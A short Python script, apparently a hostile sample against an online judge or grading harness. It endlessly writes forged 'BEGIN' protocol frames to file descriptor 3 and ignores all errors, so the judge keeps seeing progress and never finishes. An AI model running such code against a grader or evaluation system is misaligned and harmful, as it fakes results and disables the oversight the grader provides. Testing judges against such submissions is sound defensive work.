"""Forged BEGIN frames while the file is loaded: each one is progress, none is the last.

Mark: the judge does not come back.
"""

import os
import time

frame = b"\x10\0\0\0" + b"\x0bT\x02\0\0\0" + b"I" + 8 * b"\0" + b"I" + 8 * b"\0"
frame = (len(frame) - 4).to_bytes(4, "little") + frame[4:]
while True:
    try:
        os.write(3, frame)
        time.sleep(0.05)
    except BaseException:
        pass
